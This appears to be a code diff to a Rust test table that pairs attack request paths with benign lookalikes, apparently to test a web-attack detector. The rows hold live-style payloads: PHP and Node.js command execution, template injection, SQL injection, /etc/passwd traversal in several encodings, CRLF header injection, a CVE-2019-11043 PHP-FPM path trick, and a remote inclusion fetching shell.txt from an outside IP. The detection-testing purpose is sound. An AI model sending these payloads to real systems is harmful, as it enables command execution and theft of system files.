@@ -39,14 +39,20 @@ const TARGETS: &[(&str, &str, &str)] = &[
     // Code injection: PHP, template engines, Node.js.
     ("/x.php?a=system(%27id%27)", "php", "/x.php?a=the%20system%20is%20down"),
     ("/x?a=%7B%7B7*7%7D%7D", "generic", "/x?a=%7B%7Bname%7D%7D"),
-    ("/x?a=_$$ND_FUNC$$_function(){require(%27child_process%27).exec(%27id%27)}", "", "/x?a=function%20docs"),
+    ("/x?a=_$$ND_FUNC$$_function(){require(%27child_process%27).exec(%27id%27)}", "generic", "/x?a=function%20docs"),
+    ("/x?a=$%7B%7B7*7%7D%7D", "", "/x?a=$%7Bprice%7D"),
+    ("/p?id=1;SELECT%20CHAR(0x41)--", "sqli", "/p?id=char%20limit%20twitter"),
     ("/x.php?page=php://filter/convert.base64-encode/resource=index.php", "php", "/x.php?page=filter%20options"),
     // Traversal and local/remote inclusion, also double- and overlong-encoded.
     ("/dl?file=../../../../etc/passwd", "lfi", "/dl?file=reports/2024/q1.pdf"),
     ("/dl?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "lfi", "/dl?file=100%2525%20cotton"),
     ("/dl?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "lfi", "/dl?file=caf%C3%A9.txt"),
     ("/inc?page=http://198.51.100.7/shell.txt?", "rfi", "/inc?page=about"),
-    // CRLF / header injection and HTTP splitting inside a parameter.
+    // CRLF / header injection, HTTP splitting inside a parameter, an encoded newline in
+    // a PHP path (nginx + PHP-FPM PATH_INFO, CVE-2019-11043), a NUL cutting a path.
+    ("/index.php/PHP_VALUE%0Asession.auto_start=1;;;?a", "protocol", "/index.php/blog/2024/hello-world"),
+    ("/q?x=1%20HTTP/1.1%0d%0aHost:%20evil", "protocol", "/q?x=http%20status%20codes"),
+    ("/dl?file=../../etc/passwd%00.png", "lfi", "/dl?file=photo.png"),
     ("/r?url=x%0d%0aSet-Cookie:%20admin=1", "protocol", "/r?url=/home"),
     ("/r?next=%0d%0aLocation:%20http://evil.example", "protocol", "/r?next=%2Fhome"),
 ];
